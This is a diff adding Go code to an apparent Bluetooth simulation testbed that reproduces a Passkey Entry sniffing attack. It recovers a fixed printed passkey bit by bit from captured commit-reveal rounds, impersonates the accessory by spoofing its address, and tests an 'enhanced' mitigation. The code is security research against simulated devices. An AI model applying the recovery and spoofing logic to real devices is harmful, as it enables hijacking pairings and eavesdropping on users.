@@ -1,0 +1,182 @@
+package core
+
+import (
+	"time"
+
+	"repro/internal/bt"
+	"repro/internal/btcrypto"
+	"repro/internal/controller"
+	"repro/internal/device"
+	"repro/internal/host"
+	"repro/internal/radio"
+	"repro/internal/sim"
+)
+
+// Passkey Entry sniffing and the enhanced-protocol mitigation. Plain
+// Passkey Entry leaks one passkey bit per commit-reveal round to a
+// passive air sniffer: every round-i commitment is f1(PKx, PKx', N_i, Z)
+// with Z ∈ {0x80, 0x81}, and once the nonce is revealed the sniffer just
+// tests both values. Against an accessory whose passkey is printed on a
+// label (fixed across pairings), one sniffed session yields the full
+// passkey and the attacker can impersonate the accessory's display side
+// at the next pairing. The enhanced variant masks each round's Z with a
+// bit of the shared DH key, so the recovered bits are blinded — and a
+// non-enhanced MITM cannot even complete the rounds against an enhanced
+// endpoint.
+
+// PasskeySniffConfig parameterizes the sniff-then-impersonate run.
+type PasskeySniffConfig struct {
+	// Attacker is A; Client is the printed-label accessory C (display
+	// side); Victim is the keyboard-side phone M. VictimUser must be M's
+	// UI with TypedPasskey set to the printed passkey.
+	Attacker   *device.Device
+	Client     *device.Device
+	Victim     *device.Device
+	VictimUser *host.SimUser
+	// Sniffer is the passive air capture; it must have been attached to
+	// the medium before the legitimate pairing runs.
+	Sniffer *AirSniffer
+	// PrintedPasskey is the label value (must match the client's fixed
+	// passkey configuration).
+	PrintedPasskey uint32
+	// PairTime bounds the legitimate pairing prologue (default 30 s).
+	PairTime time.Duration
+	// SettleTime bounds the attack phase; defaults to 30 s.
+	SettleTime time.Duration
+}
+
+// PasskeySniffReport is the outcome of one run.
+type PasskeySniffReport struct {
+	// LegitPaired reports the sniffed legitimate pairing completed.
+	LegitPaired bool
+	// Recovered reports a full 20-bit passkey was reconstructed from the
+	// capture (every round solved for some Z).
+	Recovered bool
+	// RecoveredPasskey is the sniffer's reconstruction; under the
+	// enhanced protocol it is DH-blinded garbage.
+	RecoveredPasskey uint32
+	// RecoveryCorrect reports the reconstruction matches the label.
+	RecoveryCorrect bool
+	// Impersonated reports the attack outcome: the victim bonded the
+	// accessory's address to the attacker using the replayed passkey.
+	Impersonated bool
+	// Elapsed is virtual time consumed.
+	Elapsed time.Duration
+}
+
+// RecoverPasskeyFromCapture reconstructs the display side's passkey from
+// a sniffed Passkey Entry session: for each commit-reveal round sent by
+// displayAddr it tests both Z values against the revealed nonce. It
+// returns ok=false when any round has no matching Z or rounds are
+// missing (an enhanced session still yields 20 "solved" bits — they are
+// XOR-masked with DH key bits the sniffer does not hold).
+func RecoverPasskeyFromCapture(frames []radio.SniffedFrame, displayAddr, peerAddr bt.BDADDR) (uint32, bool) {
+	// Index the public keys and the display side's first commit and
+	// nonce per round (ARQ retransmissions repeat frames; first wins).
+	pubX := make(map[bt.BDADDR][32]byte)
+	commits := make(map[int][16]byte)
+	nonces := make(map[int][16]byte)
+	for _, f := range frames {
+		switch pdu := f.Payload.(type) {
+		case controller.PublicKeyPDU:
+			if _, seen := pubX[f.From]; !seen && len(pdu.Pub) == 65 {
+				var x [32]byte
+				copy(x[:], pdu.Pub[1:33])
+				pubX[f.From] = x
+			}
+		case controller.PasskeyCommitPDU:
+			if f.From == displayAddr {
+				if _, seen := commits[pdu.Round]; !seen {
+					commits[pdu.Round] = pdu.C
+				}
+			}
+		case controller.PasskeyNoncePDU:
+			if f.From == displayAddr {
+				if _, seen := nonces[pdu.Round]; !seen {
+					nonces[pdu.Round] = pdu.N
+				}
+			}
+		}
+	}
+	senderX, okS := pubX[displayAddr]
+	receiverX, okR := pubX[peerAddr]
+	if !okS || !okR {
+		return 0, false
+	}
+	var passkey uint32
+	for i := 0; i < 20; i++ {
+		commit, okC := commits[i]
+		nonce, okN := nonces[i]
+		if !okC || !okN {
+			return 0, false
+		}
+		switch commit {
+		case btcrypto.F1(senderX, receiverX, nonce, 0x80):
+			// bit i is 0
+		case btcrypto.F1(senderX, receiverX, nonce, 0x81):
+			passkey |= 1 << uint(i)
+		default:
+			return 0, false
+		}
+	}
+	return passkey, true
+}
+
+// RunPasskeySniff pairs M with the fixed-passkey accessory C under a
+// passive sniffer, reconstructs the passkey from the capture, and
+// replays it from an impersonated display side. With the enhanced
+// protocol armed on M and C (TestbedOptions.EnhancedPasskey) the
+// reconstruction is blinded and the impersonation fails.
+func RunPasskeySniff(s *sim.Scheduler, cfg PasskeySniffConfig) PasskeySniffReport {
+	var rep PasskeySniffReport
+	start := s.Now()
+	a, c, m := cfg.Attacker, cfg.Client, cfg.Victim
+
+	pairTime := cfg.PairTime
+	if pairTime <= 0 {
+		pairTime = 30 * time.Second
+	}
+	settle := cfg.SettleTime
+	if settle <= 0 {
+		settle = 30 * time.Second
+	}
+
+	// The accessory shows only its printed passkey; the victim types it.
+	m.Host.SetIOCapability(bt.KeyboardOnly)
+	c.Host.SetIOCapability(bt.DisplayOnly)
+
+	// Prologue: the victim deliberately pairs the accessory while the
+	// sniffer listens.
+	cfg.VictimUser.ExpectPairing(c.Addr())
+	m.Host.Pair(c.Addr(), func(err error) { rep.LegitPaired = err == nil })
+	s.RunFor(pairTime)
+
+	rep.RecoveredPasskey, rep.Recovered = RecoverPasskeyFromCapture(cfg.Sniffer.Frames(), c.Addr(), m.Addr())
+	rep.RecoveryCorrect = rep.Recovered && rep.RecoveredPasskey == cfg.PrintedPasskey%1_000_000
+
+	m.Host.Disconnect(c.Addr())
+	s.RunFor(time.Second)
+	if !rep.Recovered {
+		rep.Elapsed = s.Now() - start
+		return rep
+	}
+
+	// Attack: the accessory is out of range; the attacker assumes its
+	// identity and display role and replays the recovered passkey. The
+	// victim re-pairs, reading the same printed label as always.
+	c.Controller.Detach()
+	a.Host.SetIOCapability(bt.DisplayOnly)
+	recovered := rep.RecoveredPasskey
+	a.Controller.SetFixedPasskey(&recovered)
+	a.SpoofIdentity(c.Addr(), c.Platform.COD)
+	a.Host.Pair(m.Addr(), func(error) {})
+
+	s.RunFor(settle)
+	rep.Elapsed = s.Now() - start
+
+	victimBond := m.Host.Bonds().Get(c.Addr())
+	attackerBond := a.Host.Bonds().Get(m.Addr())
+	rep.Impersonated = victimBond != nil && attackerBond != nil &&
+		victimBond.Key == attackerBond.Key
+	return rep
+}
